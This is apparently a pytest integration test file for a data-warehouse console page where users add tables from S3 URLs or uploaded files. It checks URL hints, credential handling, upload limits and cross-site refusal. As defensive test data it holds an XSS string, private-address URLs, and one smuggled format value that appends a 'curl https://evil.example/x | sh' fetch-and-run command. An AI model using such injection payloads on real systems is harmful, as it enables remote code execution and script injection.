"""Adding a table: what a URL tells, its check, saving it, and uploading a file."""

import re
from collections.abc import Callable
from uuid import UUID

import httpx
import pytest

from stocktake.db.models import Job
from stocktake.services import words
from tests.integration.api.conftest import FinishJob, Served
from tests.integration.api.console.conftest import OWN, SignIn, post, text_of

URL = "https://sales.s3.eu-west-1.amazonaws.com/shop/orders/2026.csv.gz"
KEYS = {"access_key": "AKIAXXXXXXXXXXXXXXXX", "access_secret": "very-secret-indeed"}
FIELDS = {"url": URL, "name": "orders", "format": "CSVWithNames"}
EVIL = "<script>alert(1)</script>\"'>"
JobRow = Callable[[UUID], Job]


def test_the_empty_page_has_both_ways_in(browser: httpx.Client) -> None:
    page = text_of(browser.get("add"))
    assert "Look at it" in page
    assert 'enctype="multipart/form-data"' in page
    assert "Up to 52.4 MB" in page
    assert words.BAD_IDENTIFIER in page


def test_a_url_tells_its_store_format_pattern_and_a_name(browser: httpx.Client) -> None:
    page = text_of(browser.get("add", params={"url": URL}))
    assert "eu-west-1" in page
    assert "<code>sales</code>" in page
    assert "CSVWithNames, as its name ends" in page
    assert "shop/orders/*.csv.gz</code></a>" in page
    assert 'name="name" value="orders"' in page
    page = text_of(browser.get("add", params={"url": URL.replace("2026", "*")}))
    assert "*.csv.gz</code></a>" not in page
    assert 'name="name" value="orders"' in page
    page = text_of(browser.get("add", params={"url": "https://sales.s3.amazonaws.com/events/"}))
    assert "trying it finds out" in page


def test_a_url_of_other_tools_is_told_how_it_is_written(browser: httpx.Client) -> None:
    page = text_of(browser.get("add", params={"url": "s3://sales/shop/*.csv"}))
    assert "Write it as https://BUCKET.s3.REGION.amazonaws.com/PATH" in page
    tried = post(browser, "add/try", FIELDS | KEYS | {"url": "gs://sales/*.csv"}).text
    assert "Write it as https://storage.googleapis.com/BUCKET/PATH" in tried


@pytest.mark.parametrize("url", ["nothing", "https://127.0.0.1/x.csv", "ftp://a.b/c.csv", EVIL])
def test_a_url_that_may_not_be_opened_says_why(browser: httpx.Client, url: str) -> None:
    page = text_of(browser.get("add", params={"url": url}))
    assert 'role="alert"' in page
    assert 'aria-invalid="true"' in page
    assert "<script>alert" not in page
    assert ">Save</button>" not in page


def test_a_source_is_tried_and_its_steps_shown(
    browser: httpx.Client, job_row: JobRow, finish_job: FinishJob
) -> None:
    answer = post(browser, "add/try", {**FIELDS, "format": "", **KEYS})
    assert answer.status_code == 303, answer.text
    location = "add" + answer.headers["location"].partition("/add")[2]
    assert not any(secret in location for secret in KEYS.values())
    page = text_of(browser.get(location))
    assert "The source is being tried" in page
    assert 'hx-trigger="every 2s"' in page
    job = UUID(location.rpartition("job=")[2])
    assert job_row(job).kind == "check_source"
    step = {"step": "get", "outcome": "passed", "detail": "Read.", "code": None, "hint": None}
    columns = [{"name": f"id{EVIL}", "type": "Int64"}]
    result = {"passed": True, "url_pattern": URL, "format": "Parquet", "steps": [step]}
    finish_job(job, {**result, "columns": columns, "row_count": 7, "warnings": [], "grant": None})
    page = text_of(browser.get(location))
    assert "The source can be read" in page
    assert '<option value="Parquet" selected>' in page  # as the check has found
    assert "1 column, 7 rows" in page
    assert "<script>alert" not in page
    assert "every 2s" not in page


def test_a_table_is_saved_with_its_key(browser: httpx.Client, client: httpx.Client) -> None:
    answer = post(browser, "add", FIELDS | KEYS)
    assert answer.status_code == 303, answer.text
    [table] = client.get("warehouse_tables/").json()["results"]
    assert (table["name"], table["format"], table["url_pattern"]) == ("orders", "CSVWithNames", URL)
    assert table["credential"] is not None
    assert f"/tables/{table['id']}?notice=added" in answer.headers["location"]


def test_a_public_table_needs_no_key(browser: httpx.Client, client: httpx.Client) -> None:
    assert post(browser, "add", FIELDS | {"public": "yes"}).status_code == 303
    [table] = client.get("warehouse_tables/").json()["results"]
    assert table["options"] == {"public": True}


@pytest.mark.parametrize(
    ("wrong", "told"),
    [
        ({"access_secret": ""}, "Access key and secret are required"),
        ({"access_key": "", "access_secret": ""}, "Credentials are required"),
        ({"name": ""}, 'aria-invalid="true"'),
        ({"format": ""}, 'aria-invalid="true"'),
        ({"url": "https://10.0.0.1/x.csv"}, 'role="alert"'),
    ],
)
def test_what_is_wrong_is_told_and_no_secret_is_shown_again(
    browser: httpx.Client, client: httpx.Client, wrong: dict[str, str], told: str
) -> None:
    page = text_of(post(browser, "add", FIELDS | KEYS | wrong), 400)
    assert told in page
    assert KEYS["access_secret"] not in page
    assert KEYS["access_key"] not in page
    assert client.get("warehouse_tables/").json()["count"] == 0


def test_a_file_is_uploaded_as_its_name_ends(browser: httpx.Client, client: httpx.Client) -> None:
    file = ("people.jsonl", b'{"a": 1}\n')
    answer = browser.post("add/upload", files={"file": file}, data={"name": "", "format": ""})
    assert answer.status_code == 303, answer.text
    [table] = client.get("warehouse_tables/").json()["results"]
    assert (table["name"], table["format"]) == ("people", "JSONEachRow")


def test_an_upload_tells_how_far_it_is(browser: httpx.Client) -> None:
    page = text_of(browser.get("add"))
    assert re.search(r'<form[^>]* enctype="multipart/form-data"[^>]* data-upload>', page)
    assert "<progress" in page
    assert "/console/upload.js" in page


def test_an_upload_that_does_not_work_says_why(browser: httpx.Client, client: httpx.Client) -> None:
    nothing = browser.post("add/upload", files={"file": ("", b"")}, data={"name": "x"})
    assert "Choose a file" in text_of(nothing, 400)
    named = browser.post("add/upload", files={"file": ("a.csv", b"a\n1\n")}, data={"name": "1 2"})
    assert 'role="alert"' in text_of(named, 400)
    assert client.get("warehouse_tables/").json()["count"] == 0


def test_a_file_that_is_too_large_is_refused(
    serve: Callable[..., Served], connect: Callable[..., httpx.Client], make_key: Callable[..., str]
) -> None:
    browser = connect(url=serve(max_upload_bytes=1000).url)
    browser.headers.update(OWN)
    browser.post("/sign-in", data={"key": make_key(["*"])})
    answer = browser.post("/p/1/add/upload", files={"file": ("a.csv", b"a\n" * 900)})
    assert 'role="alert"' in text_of(answer, 400)


def test_another_site_uploads_nothing(browser: httpx.Client, client: httpx.Client) -> None:
    headers = {"Sec-Fetch-Site": "cross-site"}
    answer = browser.post("add/upload", files={"file": ("a.csv", b"a\n1\n")}, headers=headers)
    assert "another site" in text_of(answer, 403)
    assert client.get("warehouse_tables/").json()["count"] == 0


def test_a_key_that_may_only_look_finds_the_buttons_disabled(
    sign_in: SignIn, project_id: int
) -> None:
    page = text_of(
        sign_in(["warehouse_table:read"]).get(f"/p/{project_id}/add", params={"url": URL})
    )
    assert len(re.findall(r"<button[^>]*disabled[^>]*lacks the scope", page)) == 3


def test_an_address_puts_no_command_among_those_to_copy(browser: httpx.Client) -> None:
    """Anybody may have written the link."""
    url = "https://bucket.s3.amazonaws.com/x.parquet"
    hostile = "Parquet; curl https://evil.example/x | sh #"
    page = text_of(browser.get("add", params={"url": url, "format": hostile}))
    assert "; curl" not in page
    assert "--format Parquet" in page
